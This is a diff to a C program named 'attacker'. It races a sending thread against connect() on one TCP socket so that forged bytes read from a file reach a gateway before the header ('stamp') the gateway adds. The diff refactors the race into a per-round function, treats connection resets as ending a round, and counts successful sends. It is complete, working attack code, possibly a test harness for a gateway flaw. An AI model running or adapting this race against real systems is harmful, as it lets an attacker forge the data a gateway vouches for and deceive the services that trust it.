@@ -3,49 +3,77 @@
  * Tries to get bytes of its own in front of the stamp: one thread connects, another one sends the forged bytes on the
  * same socket as fast as it can, so that some sends are entered while the socket is in SYN_SENT.
  *
- * usage: attacker ADDRESS PORT ROUNDS FORGED_FILE; prints how many sends succeeded.
+ * Forged bytes that got out first may be refused before connect() has returned; it says then that the connection was
+ * reset, because inet_stream_connect() (net/ipv4/af_inet.c) looks at the state once it is woken. That round is over.
+ *
+ * usage: attacker ADDRESS PORT ROUNDS FORGED_FILE; prints how many sends succeeded. Any other error: 1, named on stderr.
  */
 #define _GNU_SOURCE
 #include <arpa/inet.h>
+#include <errno.h>
 #include <netinet/in.h>
 #include <pthread.h>
 #include <sched.h>
 #include <stdatomic.h>
+#include <stdbool.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <sys/socket.h>
 #include <unistd.h>
 
-static atomic_int target = -1; /* socket to attack; -1: none, -2: the end */
-static atomic_int done_round;
-static atomic_int round_number;
 static char forged[4096];
 static size_t forged_size;
 static long sent;
+static atomic_bool sending; /* the sender has begun */
+static atomic_bool over;    /* it need not send any more */
 
-static void *spin(void *unused)
+static void *send_first(void *sock)
 {
-	(void)unused;
-	for (;;) {
-		int sock = atomic_load(&target);
-		int now = atomic_load(&round_number);
-
-		if (sock == -2)
-			return NULL;
-		if (sock < 0 || now == atomic_load(&done_round))
-			continue;
+	atomic_store(&sending, true);
+	while (!atomic_load(&over)) {
 		/* EPIPE until connect() has begun; blocks while in SYN_SENT. */
-		if (send(sock, forged, forged_size, MSG_NOSIGNAL) > 0) {
+		if (send(*(int *)sock, forged, forged_size, MSG_NOSIGNAL) > 0) {
 			sent++;
-			atomic_store(&done_round, now);
+			break;
 		}
 	}
+	return NULL;
+}
+
+/* Returns 0, or -1 with the failed call named on stderr. */
+static int attack(const struct sockaddr_in *to)
+{
+	int sock = socket(AF_INET, SOCK_STREAM, 0);
+	pthread_t sender;
+	int refused;
+
+	if (sock < 0) {
+		perror("socket");
+		return -1;
+	}
+	atomic_store(&sending, false);
+	atomic_store(&over, false);
+	if (pthread_create(&sender, NULL, send_first, &sock)) {
+		perror("pthread_create");
+		return -1;
+	}
+	while (!atomic_load(&sending))
+		sched_yield();
+	refused = connect(sock, (const struct sockaddr *)to, sizeof(*to)) ? errno : 0;
+	atomic_store(&over, refused != 0);
+	pthread_join(sender, NULL);
+	close(sock);
+	if (refused && refused != ECONNRESET) {
+		errno = refused;
+		perror("connect");
+		return -1;
+	}
+	return 0;
 }
 
 int main(int argc, char **argv)
 {
 	struct sockaddr_in to = {.sin_family = AF_INET};
-	pthread_t thread;
 	FILE *file;
 
 	if (argc != 5 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1)
@@ -56,24 +84,10 @@ int main(int argc, char **argv)
 		return 2;
 	forged_size = fread(forged, 1, sizeof(forged), file);
 	fclose(file);
-	if (pthread_create(&thread, NULL, spin, NULL))
-		return 2;
-	for (int i = 1; i <= atoi(argv[3]); i++) {
-		int sock = socket(AF_INET, SOCK_STREAM, 0);
-
-		if (sock < 0)
+	for (int i = 0; i < atoi(argv[3]); i++) {
+		if (attack(&to))
 			return 1;
-		atomic_store(&round_number, i);
-		atomic_store(&target, sock);
-		if (connect(sock, (struct sockaddr *)&to, sizeof(to)))
-			return 1;
-		while (atomic_load(&done_round) != i)
-			sched_yield(); /* the sender, and on a busy machine the gateway, need the CPU */
-		atomic_store(&target, -1);
-		close(sock);
 	}
-	atomic_store(&target, -2);
-	pthread_join(thread, NULL);
 	printf("%ld\n", sent);
 	return 0;
 }
